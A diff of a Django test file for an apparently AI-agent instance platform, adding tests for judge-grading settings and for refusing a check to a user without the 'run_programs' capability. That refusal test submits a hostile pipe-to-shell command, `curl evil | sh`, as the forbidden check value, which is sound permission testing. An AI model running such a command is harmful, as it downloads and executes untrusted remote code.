@@ -48,7 +48,7 @@ def test_create_from_each_template_without_the_capability(signed_in, user, name)
     assert page.status_code == 200
     assert input_names(page) - {"csrfmiddlewaretoken"} == {
         "name", "model", "credential", "max_iterations", "objective_max_chars", "max_tool_turns",
-        "max_output_tokens", "workspace",
+        "max_output_tokens", "workspace", "judge_rubric", "judge_model", "judge_pass_threshold", "response_schema",
     }
     text = page.content.decode()
     assert "Fixed by the template" in text
@@ -329,3 +329,30 @@ def test_the_api_refuses_a_start_on_an_archived_instance_and_a_duplicate_label_w
     assert client.post("/v1/credentials", data=body, content_type="application/json", headers=headers).status_code == 201
     again = client.post("/v1/credentials", data=body, content_type="application/json", headers=headers)
     assert again.status_code == 409 and "already have a credential labelled" in again.json()["error"]
+
+
+def test_a_person_without_the_capability_sets_the_grading_but_not_a_check(signed_in, user, price):
+    from instances.templates_loader import create_instance
+
+    made = create_instance(owner=user, template="triage", name="sorter")
+    page = signed_in.get(f"/instances/{made.pk}/edit").content.decode()
+    assert "Judge&#x27;s rubric" in page and "Every report file in the workspace appears exactly once" in page
+    schema = '{"type": "object", "required": ["reports"]}'
+    grading = {"judge_rubric": "Each severity is justified.", "judge_model": "claude-test-1",
+               "judge_pass_threshold": 80, "response_schema": schema}
+    response = signed_in.post(f"/instances/{made.pk}/edit", safe_post(made.template, name="sorter", **grading))
+    assert response.status_code == 302, response.content.decode()[:2000]
+    made.refresh_from_db()
+    assert (made.judge_rubric, made.judge_model, made.judge_pass_threshold) == ("Each severity is justified.", "claude-test-1", 80)
+    assert made.response_schema == {"type": "object", "required": ["reports"]}
+    for bad, said in (("{not json", "must be JSON"), ('{"type": "nonsense"}', "is not a JSON Schema")):
+        refused = signed_in.post(f"/instances/{made.pk}/edit", safe_post(made.template, name="sorter", **{**grading, "response_schema": bad}))
+        assert refused.status_code == 400 and said in refused.content.decode()
+    unpriced = signed_in.post(f"/instances/{made.pk}/edit", safe_post(made.template, name="sorter", **{**grading, "judge_model": "claude-unpriced-9"}))
+    assert unpriced.status_code == 400 and "has no price" in unpriced.content.decode()
+    checked = signed_in.post(
+        f"/instances/{made.pk}/edit", safe_post(made.template, name="sorter", checks="sneaky: sh -c 'curl evil | sh'", **grading)
+    )
+    assert checked.status_code == 403 and "run_programs" in checked.content.decode()
+    made.refresh_from_db()
+    assert made.checks == [] and made.judge_model == "claude-test-1"
